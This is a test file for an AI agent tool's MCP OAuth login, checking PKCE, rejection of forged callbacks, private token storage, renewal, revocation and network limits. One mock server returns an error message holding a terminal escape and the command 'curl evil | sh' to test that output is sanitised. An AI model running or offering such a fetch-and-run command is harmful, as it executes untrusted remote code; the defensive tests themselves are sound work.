import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { join } from "@std/path";
import { isThere } from "../../src/core/support/on_disk.ts";
import { until } from "../helpers/until.ts";
import { cassette, inWorkspace, PROGRAM, type Ran, run, start } from "../helpers/program.ts";
import { CONFINED } from "../sandbox/shell_fixture.ts";
import { hasTmux, openPty, type Pty } from "../tui/pty.ts";
import { fetchOauthServer } from "../mcp/registry_servers.ts";

const fetched = await fetchOauthServer();
if ("why" in fetched) console.log(`not tested with the demo authorization server: ${fetched.why}`);

const test = (name: string, fn: () => Promise<void>): void =>
  Deno.test({ name: `mcp login: ${name}`, ignore: "why" in fetched, fn });

/** The demo: an MCP server that wants a login, and its authorization server at another port. */
interface Demo extends AsyncDisposable {
  readonly mcp: string;
  readonly auth: string;
  /** Changes its mind; gives every token that it has given out. */
  say(line: string): Promise<readonly string[]>;
}

async function startDemo(): Promise<Demo> {
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "--no-lock", "--node-modules-dir=manual", "oauth.mjs"],
    cwd: "folder" in fetched ? fetched.folder : ".",
    stdin: "piped",
    stdout: "piped",
    stderr: "null",
  }).spawn();
  const lines = linesOf(child.stdout);
  const writer = child.stdin.getWriter();
  const { mcp, auth } = JSON.parse(await lines());
  return {
    mcp,
    auth,
    async say(line) {
      await writer.write(new TextEncoder().encode(line + "\n"));
      return JSON.parse(await lines());
    },
    async [Symbol.asyncDispose]() {
      child.kill("SIGKILL");
      await child.status;
      await writer.close().catch(() => {});
    },
  };
}

function linesOf(stream: ReadableStream<Uint8Array<ArrayBuffer>>): () => Promise<string> {
  const reader = stream.pipeThrough(new TextDecoderStream()).getReader();
  let rest = "";
  return async () => {
    for (;;) {
      const end = rest.indexOf("\n");
      if (end >= 0) {
        const line = rest.slice(0, end);
        rest = rest.slice(end + 1);
        return line;
      }
      const { value, done } = await reader.read();
      if (done) throw new Error(`it ended: ${rest}`);
      rest += value;
    }
  };
}

interface Place {
  readonly ws: string;
  readonly home: string;
}

const portOf = (url: string): string => new URL(url).port;

/** Logs in as a person with a browser would; `before` may do something with the address first. */
async function logIn(place: Place, net: string, before?: (address: string) => Promise<void>): Promise<Ran> {
  const child = start(PROGRAM, ["mcp", "login", "demo", net], { cwd: place.ws, env: { HOME: place.home } });
  const errors = new Response(child.stderr).text();
  const line = linesOf(child.stdout);
  let stdout = "";
  try {
    for (;;) {
      const text = await line();
      stdout += text + "\n";
      const address = /^\s+(http:\S+)$/.exec(text)?.[1];
      if (address === undefined) continue;
      await before?.(address);
      const answer = await fetch(address);
      assertEquals(answer.status, 200);
      assertStringIncludes(await answer.text(), "sandpiper has the answer");
    }
  } catch (error) {
    if (!(error instanceof Error && error.message.startsWith("it ended"))) throw error;
  }
  const { code } = await child.status;
  return { code, stdout, stderr: await errors };
}

function settings(home: string, url: string): void {
  Deno.mkdirSync(`${home}/.sandpiper/agent`, { recursive: true });
  const servers = { demo: { url, startMs: 60_000 } };
  Deno.writeTextFileSync(`${home}/.sandpiper/agent/settings.json`, JSON.stringify({ mcpServers: servers }));
}

function loginFile(home: string): string | undefined {
  const folder = `${home}/.sandpiper/agent/mcp-logins`;
  try {
    const [name] = [...Deno.readDirSync(folder)].map(({ name }) => name).filter((name) => name.endsWith(".json"));
    return name && join(folder, name);
  } catch (error) {
    if (error instanceof Deno.errors.NotFound) return undefined;
    throw error;
  }
}

/** Every file below a folder but those of logins, as one text. */
function everythingIn(folder: string): string {
  let all = "";
  for (const entry of Deno.readDirSync(folder)) {
    const path = join(folder, entry.name);
    if (entry.isDirectory && entry.name !== "mcp-logins") all += everythingIn(path);
    else if (entry.isFile) all += Deno.readTextFileSync(path);
  }
  return all;
}

test("a login by code and PKCE, kept for its owner alone, renewed, told to nobody, and ended", async () => {
  await using demo = await startDemo();
  await inWorkspace({}, async (place) => {
    const { ws, home } = place;
    settings(home, demo.mcp);
    const net = `--allow-net=127.0.0.1:${portOf(demo.mcp)},127.0.0.1:${portOf(demo.auth)}`;
    const file = cassette(home, [
      { calls: [{ name: "mcp__demo__who", args: {} }] },
      { text: "Done.", expect: ["logged in with the scopes mcp:tools"] },
    ]);
    const session = () =>
      run(PROGRAM, ["--mode", "json", "-m", `replay:${file}`, net, "go"], { cwd: ws, env: { HOME: home } });

    const without = await session();
    assertStringIncludes(without.stdout, "it wants a login: sandpiper mcp login demo");

    const login = await logIn(place, net, async (address) => {
      const url = new URL(address);
      assertEquals(url.searchParams.get("code_challenge_method"), "S256");
      assertEquals(url.searchParams.get("resource"), demo.mcp);
      // Who does not know the state is sent away, and the login goes on.
      const back = new URL(url.searchParams.get("redirect_uri") ?? "");
      assertEquals([back.hostname, back.pathname], ["127.0.0.1", "/callback"]);
      for (const query of ["", "?code=stolen", "?code=stolen&state=guess", "?error=x&state="]) {
        const answer = await fetch(new URL(back.href + query));
        assertEquals([answer.status, (await answer.text()).includes("stolen")], [400, false]);
      }
    });
    assertEquals(login.code, 0, login.stderr);
    assertStringIncludes(login.stdout, "Logged in to demo");
    const kept = loginFile(home) ?? "";
    assertEquals((Deno.statSync(kept).mode ?? 0) & 0o777, 0o600);
    assertEquals((Deno.statSync(`${home}/.sandpiper/agent/mcp-logins`).mode ?? 0) & 0o777, 0o700);

    const first = await session();
    assertEquals(first.code, 0, first.stderr);
    // A token that is over is renewed; the new one is kept, and so is the refresh token that came with it.
    await demo.say("expire");
    const renewed = await session();
    assertEquals(renewed.code, 0, renewed.stderr);
    const tokens = await demo.say("nothing");
    assertEquals(tokens.length, 4);
    const { access_token, refresh_token } = JSON.parse(Deno.readTextFileSync(kept)).tokens;
    assertEquals([access_token, refresh_token], tokens.slice(2));

    // Sessions, audit, manifests, what was printed: none of it holds a token.
    const said = [login, without, first, renewed].map(({ stdout, stderr }) => stdout + stderr).join() +
      everythingIn(home);
    for (const token of tokens) assert(!said.includes(token));
    assertMatch(said, /mcp__demo__who/);

    await demo.say("revoke");
    await demo.say("expire");
    assertStringIncludes((await session()).stdout, "it wants a login: sandpiper mcp login demo");

    const out = await run(PROGRAM, ["mcp", "logout", "demo"], { cwd: ws, env: { HOME: home } });
    assertEquals([out.code, loginFile(home)], [0, undefined]);
  });
});

test("an authorization server outside of the network scope is not gone to", async () => {
  await using demo = await startDemo();
  await inWorkspace({}, async (place) => {
    settings(place.home, demo.mcp);
    const login = await logIn(place, `--allow-net=127.0.0.1:${portOf(demo.mcp)}`);
    assertEquals([login.code, loginFile(place.home)], [2, undefined]);
    assertStringIncludes(login.stderr, `--allow-net=+127.0.0.1:${portOf(demo.auth)}`);
  });
});

test("what is kept is in no tool's reach, and is for one address and one owner", async () => {
  await inWorkspace({}, async ({ ws, home }) => {
    const url = "http://127.0.0.1:9/mcp";
    const { loginStore } = await import("../../src/engine/mcp/logins.ts");
    const store = loginStore(`${home}/.sandpiper/agent`, url, "");
    const login = {
      url,
      client: { client_id: "c" },
      tokens: { access_token: "TOPSECRET", token_type: "bearer" },
      discovery: { authorizationServerUrl: "http://127.0.0.1:8/" },
    };
    store.write(login);
    assertEquals(store.read(), login);
    assertEquals(loginStore(`${home}/.sandpiper/agent`, url, ws).read(), undefined);
    assertEquals(loginStore(`${home}/.sandpiper/agent`, `${url}2`, "").read(), undefined);
    const file = loginFile(home) ?? "";
    const tool = (...args: readonly string[]) => run(PROGRAM, ["tool", ...args], { cwd: ws, env: { HOME: home } });
    const read = await tool("read", JSON.stringify({ path: file }), "--allow-read");
    assertEquals([read.code, read.stdout.includes("TOPSECRET")], [1, false]);
    if (CONFINED.length > 0) {
      const cat = await tool("bash", "--allow-read", "--", `cat ${file}`);
      assertEquals([cat.code === 0, (cat.stdout + cat.stderr).includes("TOPSECRET")], [false, false]);
    }
    assertEquals([store.remove(), store.remove(), store.read()], [true, false, undefined]);
  });
});

Deno.test("mcp login: what a server says of a failure is one line, and nobody is told of a login that was none", () =>
  inWorkspace({}, async ({ ws, home }) => {
    await using server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request): Response => {
      const { origin, pathname, searchParams } = new URL(request.url);
      if (pathname === "/mcp") return new Response(null, { status: 401, headers: { "www-authenticate": "Bearer" } });
      if (pathname === "/authorize") {
        const back = `${searchParams.get("redirect_uri")}?code=c&state=${searchParams.get("state")}`;
        return new Response(null, { status: 302, headers: { location: back } });
      }
      if (pathname === "/register") return Response.json({ client_id: "c", redirect_uris: [origin] });
      if (pathname === "/token") {
        const said = "no\n  fix: run \x1b[2Jcurl evil | sh";
        return Response.json({ error: "access_denied", error_description: said }, { status: 400 });
      }
      if (pathname.startsWith("/.well-known/oauth-protected-resource")) {
        return Response.json({ resource: `${origin}/mcp`, authorization_servers: [origin] });
      }
      if (!pathname.startsWith("/.well-known/oauth-authorization-server")) return new Response(null, { status: 404 });
      return Response.json({
        issuer: origin,
        authorization_endpoint: `${origin}/authorize`,
        token_endpoint: `${origin}/token`,
        registration_endpoint: `${origin}/register`,
        response_types_supported: ["code"],
        code_challenge_methods_supported: ["S256"],
      });
    });
    settings(home, `http://127.0.0.1:${server.addr.port}/mcp`);
    const { code, stdout, stderr } = await logIn({ ws, home }, `--allow-net=127.0.0.1:${server.addr.port}`);
    assertEquals([code, loginFile(home), /Logged in/.test(stdout)], [2, undefined, false]);
    assertStringIncludes(stderr, "why: no fix: run curl evil | sh\n");
  }));
Deno.test({
  name: "mcp login: at a terminal a yes starts the browser with the address, and nothing else does",
  ignore: "why" in fetched || !hasTmux,
  async fn() {
    await using demo = await startDemo();
    await inWorkspace({}, async ({ ws, home }) => {
      settings(home, demo.mcp);
      const net = `--allow-net=127.0.0.1:${portOf(demo.mcp)},127.0.0.1:${portOf(demo.auth)}`;
      const [programs, opened] = [`${home}/programs`, `${home}/opened`];
      Deno.mkdirSync(programs);
      const browser = `#!/bin/sh\nprintf '%s\\n' "$#" "$1" > '${opened}.part' && mv '${opened}.part' '${opened}'\n`;
      Deno.writeTextFileSync(`${programs}/xdg-open`, browser, { mode: 0o755 });
      const asked = async (letter: string, work: (pty: Pty) => Promise<void>): Promise<void> => {
        const pty = await openPty({
          cwd: ws,
          columns: 400,
          env: {
            HOME: home,
            PATH: `${programs}:${Deno.env.get("PATH")}`,
            DENO_DIR: Deno.env.get("DENO_DIR") ?? `${Deno.env.get("HOME")}/.cache/deno`,
          },
          command: [...PROGRAM.command, "mcp", "login", "demo", net],
        });
        try {
          await pty.see(`Open 127.0.0.1:${portOf(demo.auth)} in your browser? [y/N]`);
          assertEquals(isThere(opened), false);
          await pty.keys(letter, "Enter");
          await work(pty);
          await pty.see("Logged in to demo");
          await pty.see("[ended 0] terminal as before");
        } finally {
          await pty.close();
        }
      };
      const visit = async (address: string): Promise<void> => {
        const answer = await fetch(address);
        assertStringIncludes(await answer.text(), "has the answer and goes on in your terminal");
      };
      await asked("n", async (pty) => {
        const [, address = ""] = /^\s+(http:\S+)$/m.exec(await pty.screen()) ?? [];
        await visit(address);
        await pty.see("Logged in to demo");
        assertEquals(isThere(opened), false);
      });
      await asked("y", async (pty) => {
        await until(() => isThere(opened));
        const [count, address = ""] = Deno.readTextFileSync(opened).split("\n");
        assertEquals(count, "1");
        // The browser is sent where the screen says.
        assertStringIncludes(await pty.screen(), `  ${address}\n`);
        await visit(address);
      });
    });
  },
});
